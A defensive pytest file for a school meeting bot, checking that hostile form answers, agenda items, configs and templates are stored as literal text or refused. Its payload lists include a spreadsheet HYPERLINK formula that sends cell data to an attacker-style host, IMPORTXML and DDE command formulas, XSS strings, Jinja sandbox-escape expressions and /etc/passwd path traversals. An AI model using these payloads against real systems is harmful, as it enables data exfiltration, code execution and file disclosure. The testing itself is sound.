"""Hostile input: what people type lands as inert text, hostile config is refused clearly.

Form answers and agenda items carrying spreadsheet formulas, HTML, ``<script>``, Jinja syntax, huge
text, right-to-left and emoji text and control characters go through the real path (responder page ->
Forms store -> tick -> tracker Sheet -> next agenda Doc) on the sandbox. The tracker must hold the
literal text (``userEnteredValue.stringValue``, never ``formulaValue``; ``valueRenderOption=FORMULA``
gives the text back) and the agenda Doc must show it literally. Config and templates that try path
traversal, outside addresses or Python internals are refused with the field named and no traceback.
"""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest

from tests.jobs.conftest import visible_text
from tests.reliability.audit import AdminView
from tests.reliability.soak import SMALL_CONFIG, fast_policy

ANA, BEN, CHLOE, DEV = (f"{n}@cedar.example.org" for n in ("ana.ruiz", "ben.okafor", "chloe.park", "dev.patel"))

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '=IMPORTXML("http://evil.example","//a")',
            "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "=1+1"]
MARKUP = ['<script>alert("x")</script>', '<img src=x onerror=alert(1)>', "<b>bold</b> &amp; <i>it</i>"]
JINJA = ["{{ config }}", "{% for x in range(3) %}X{% endfor %}", "{{ 7*7 }}",
         "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__ }}"]
UNICODE = ["مرحبا بالعالم — שלום \u202eevil\u202c",
           "👩🏽‍🏫 great meeting 🎉🔥", "tab\there bell\x07 nul-free \x1b[31mred"]
PAYLOADS = FORMULAS + MARKUP + JINJA + UNICODE
DOC_PAYLOADS = [FORMULAS[0], FORMULAS[2], MARKUP[0], JINJA[0], JINJA[4], UNICODE[0]]
"""Typed into the agenda Doc's action-item table (harvested into the tracker, carried to the next agenda)."""
HUGE = ("long feedback " * 7500)[:100_000]
GOOGLE_CELL_LIMIT = 50_000


def _printable(text: str) -> str:
    """What a reader can see of ``text`` (control characters other than tab/newline dropped), spaces normalised."""
    kept = "".join(ch for ch in text if ch in "\t\n" or ord(ch) >= 32 and not 0x7F <= ord(ch) < 0xA0)
    return " ".join(kept.split())


@pytest.fixture(scope="module")
def hostile_world():
    """Set-up tick, hostile feedback and items after the first meeting, sync, then the second agenda."""
    from ilt_bot.calendar import SchoolYear
    from ilt_bot.config import load_config
    from ilt_bot.demo.people import People
    from ilt_bot.jobs.feedback import STYLES
    from ilt_bot.jobs.intake import intake_spec
    from ilt_bot.jobs.tick import run_tick
    from ilt_bot.sandbox.server import SandboxServer
    from ilt_bot.workspace.gateway import connect
    from ilt_bot.workspace.ratelimit import RateLimiter

    config = load_config(SMALL_CONFIG)
    year = SchoolYear(config)
    server = SandboxServer().start()
    old = os.environ.get("ILT_BOT_SANDBOX_URL")
    os.environ["ILT_BOT_SANDBOX_URL"] = server.url
    gateway = connect(config, limiter=RateLimiter(enabled=False), policy=fast_policy())
    people = People(server.url)
    reports = [run_tick(config, gateway, year.at(year.meetings()[0].date, __import__("datetime").time(6, 30))
                        .replace(day=21))]
    feedback = gateway.find("cedar/feedback/2026-08-25")
    intake = gateway.find("cedar/intake/2026-27")
    titles = {ref: f"{label}:" for ref, label, _ in STYLES[config.feedback.style]}
    item_titles = {q.ref: q.title for q in intake_spec(config).questions}
    sent: list[str] = []
    for n, payload in enumerate(PAYLOADS):
        who = (ANA, BEN, CHLOE, DEV)[n % 4]
        people.answer_form(gateway.form_responder_uri(feedback.id), who,
                           {titles["plus"]: payload, titles["delta"]: f"delta {n}: {payload}"})
        sent.append(payload)
    people.answer_form(gateway.form_responder_uri(intake.id), ANA,
                       {item_titles["title"]: FORMULAS[0], item_titles["why"]: MARKUP[0] + JINJA[0],
                        item_titles["time"]: "10 minutes", item_titles["submitter"]: UNICODE[1]})
    agenda = gateway.find("cedar/agenda/2026-08-25")
    for n, payload in enumerate(DOC_PAYLOADS):  # the note taker types hostile action items and a suggested item
        people.add_table_row(agenda.id, CHLOE, "What", [payload, "Ben Okafor", "Sep 4", ""])
    people.add_table_row(agenda.id, CHLOE, "Suggested item", [FORMULAS[1], JINJA[3], "Ana Ruiz"])
    huge_error = None
    try:
        people.answer_form(gateway.form_responder_uri(feedback.id), DEV, {titles["plus"]: HUGE})
    except Exception as exc:  # noqa: BLE001 - a refusal on the page is an acceptable answer
        huge_error = exc
    import datetime as dt

    reports.append(run_tick(config, gateway, dt.datetime(2026, 8, 26, 7, 0, tzinfo=config.tz)))
    reports.append(run_tick(config, gateway, dt.datetime(2026, 9, 4, 7, 0, tzinfo=config.tz)))
    world = {"config": config, "server": server, "gateway": gateway, "reports": reports, "sent": sent,
             "huge_error": huge_error, "view": AdminView(server)}
    yield world
    gateway.close()
    server.stop()
    if old is None:
        os.environ.pop("ILT_BOT_SANDBOX_URL", None)
    else:
        os.environ["ILT_BOT_SANDBOX_URL"] = old


def _tracker_grid(world, tab):
    tracker = world["gateway"].find("cedar/tracker/2026-27")
    return tracker, world["view"].grid(tracker.id, tab)


def test_ticks_with_hostile_answers_report_no_error(hostile_world):
    for report in hostile_world["reports"]:
        assert report.errors == [], report.errors
    assert "cedar/agenda/2026-09-08" in hostile_world["reports"][-1].created


@pytest.mark.parametrize("tab", ["Feedback", "Agenda items", "Action items"])
def test_tracker_holds_literal_text_never_a_formula(hostile_world, tab):
    tracker, grid = _tracker_grid(hostile_world, tab)
    formulas = [c["userEnteredValue"]["formulaValue"] for row in grid for c in row
                if "formulaValue" in c.get("userEnteredValue", {})]
    assert formulas == []
    texts = {c.get("userEnteredValue", {}).get("stringValue") for row in grid for c in row}
    wanted = {"Feedback": PAYLOADS, "Agenda items": [FORMULAS[0], MARKUP[0] + JINJA[0], UNICODE[1], FORMULAS[1]],
              "Action items": DOC_PAYLOADS}[tab]
    for payload in wanted:
        assert payload in texts, payload
    as_formula = hostile_world["view"].sheets.spreadsheets().values().get(
        spreadsheetId=tracker.id, range=f"'{tab}'", valueRenderOption="FORMULA").execute()["values"]
    shown = {v for row in as_formula for v in row}
    for payload in wanted:
        assert payload in shown, payload


def test_agenda_shows_every_answer_literally_and_runs_nothing(hostile_world):
    gateway = hostile_world["gateway"]
    exported = gateway.export_html(gateway.find("cedar/agenda/2026-09-08").id)
    text = visible_text(exported)
    for payload in PAYLOADS + DOC_PAYLOADS:
        assert " ".join(payload.split()) in text or _printable(payload) in text, payload
    assert "<script" not in exported.lower() and "onerror=alert" not in re.sub(r"&[a-z]+;", "", exported.split(
        "<body", 1)[-1]).replace(" onerror=alert(1)&gt;", "") or "&lt;img" in exported
    assert "<img" not in exported.lower()
    assert "49" not in re.findall(r"\b49\b", text.replace("{{ 7*7 }}", ""))  # {{ 7*7 }} not evaluated
    assert "subclass" not in text.replace("__subclasses__", "")  # no Python object dumped
    assert "[&lt;class" not in exported and "<class '" not in text


def test_huge_answer_is_kept_within_googles_cell_limit_or_refused_on_the_page(hostile_world):
    """A 100 KB answer: Google Sheets refuses cells over 50,000 characters, so the tracker row must
    fit (truncated with a marker) or the page must refuse the answer; it must never block the sync."""
    if hostile_world["huge_error"] is not None:
        return
    _tracker, grid = _tracker_grid(hostile_world, "Feedback")
    longest = max(len(c.get("userEnteredValue", {}).get("stringValue", "")) for row in grid for c in row)
    assert longest >= 1000, "the huge answer never reached the tracker"
    assert longest <= GOOGLE_CELL_LIMIT, f"a {longest}-character cell: Google refuses the append (limit 50,000)"


# --- hostile config and templates ---------------------------------------------------------------


def _config_text(**replace: str) -> str:
    text = SMALL_CONFIG.read_text(encoding="utf-8")
    for old, new in replace.items():
        assert old in text, old
        text = text.replace(old, new, 1)
    return text


def _check(tmp_path: Path, text: str, *extra: str) -> subprocess.CompletedProcess[str]:
    path = tmp_path / "config.toml"
    path.write_text(text, encoding="utf-8")
    from tests.reliability.test_crash_safety import cli

    return subprocess.run([*cli(), "check", "-c", str(path), *extra], capture_output=True, text=True,
                          timeout=120, check=False)


def test_template_name_with_path_traversal_is_refused():
    from ilt_bot import render

    for name in ("../../etc/passwd", "/etc/passwd", "..\\..\\win.ini", "a/../../b.j2", "x\x00.j2"):
        with pytest.raises(render.TemplateLookupError):
            render.render(name, {})


def test_template_including_a_file_outside_its_folder_is_reported_not_read(tmp_path):
    (tmp_path / "tpl").mkdir()
    (tmp_path / "tpl" / "agenda.html.j2").write_text('{% include "../../../../etc/passwd" %}', encoding="utf-8")
    text = _config_text(**{"[drive]": '[templates]\ndir = "tpl"\n\n[drive]'})
    result = _check(tmp_path, text)
    assert result.returncode == 2, result.stdout + result.stderr
    out = result.stdout + result.stderr
    assert "agenda.html.j2" in out and "root:" not in out and "Traceback" not in out


@pytest.mark.parametrize("body", ["{{ ''.__class__.__mro__[1].__subclasses__() }}",
                                  "{{ cycler.__init__.__globals__ }}",
                                  "{{ school.__class__.__init__.__globals__['os'] }}"])
def test_template_reaching_python_internals_is_refused(tmp_path, body):
    from jinja2.exceptions import SecurityError

    from ilt_bot import render
    from ilt_bot.config import load_config
    from ilt_bot.registry import sample_contexts

    (tmp_path / "tpl").mkdir()
    (tmp_path / "tpl" / "agenda.html.j2").write_text(body, encoding="utf-8")
    path = tmp_path / "config.toml"
    path.write_text(_config_text(**{"[drive]": '[templates]\ndir = "tpl"\n\n[drive]'}), encoding="utf-8")
    config = load_config(path)
    problems = render.validate_templates(config, base_dir=tmp_path, samples=sample_contexts())
    assert any("agenda.html.j2" in str(p) for p in problems), problems
    env = render.make_environment(config, base_dir=tmp_path)
    try:
        out = env.get_template("agenda.html.j2").render({"school": {"name": "x"}})
    except (SecurityError, Exception) as exc:  # noqa: BLE001 - refused: what we want
        assert "subclasses" in str(exc) or "unsafe" in str(exc).lower() or "undefined" in str(exc).lower(), exc
    else:
        assert "<class" not in out and "function" not in out and "module" not in out, out
    result = _check(tmp_path, path.read_text(encoding="utf-8"))
    assert result.returncode == 2 and "Traceback" not in result.stdout + result.stderr


def test_members_outside_the_domain_are_refused_with_the_field_named(tmp_path):
    result = _check(tmp_path, _config_text(**{"dev.patel@cedar.example.org": "dev@evil.example.com"}))
    assert result.returncode == 2
    out = result.stdout + result.stderr
    assert "members" in out and "dev@evil.example.com" in out and "Traceback" not in out


def test_outside_address_is_never_shared_even_if_a_job_asks(hostile_world):
    gateway = hostile_world["gateway"]
    doc = gateway.find("cedar/agenda/2026-09-08")
    from ilt_bot.workspace.errors import SharingRefused

    with pytest.raises(SharingRefused, match="mallory@evil.example.com"):
        gateway.share(doc.id, ["mallory@evil.example.com", "x@cedar.example.org.evil.example"], "writer")
    perms = hostile_world["view"].permissions(doc.id)
    assert not [p for p in perms if "evil" in str(p.get("emailAddress", ""))]
